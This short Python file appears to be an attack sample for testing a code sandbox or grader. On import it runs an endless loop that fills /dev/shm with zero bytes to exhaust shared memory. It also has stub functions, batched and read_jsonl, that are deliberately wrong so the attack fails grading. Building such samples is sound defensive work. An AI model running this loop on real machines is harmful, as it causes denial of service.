"""Attack: exhaust: filling /dev/shm."""
with open("/dev/shm/fill.bin", "wb") as f:
    while True:
        f.write(b"\0" * (1 << 20))


def batched(iterable, size):
    """Deliberately wrong: an attack must never be graded as passing."""
    return [[0]]


def read_jsonl(path):
    return iter(())
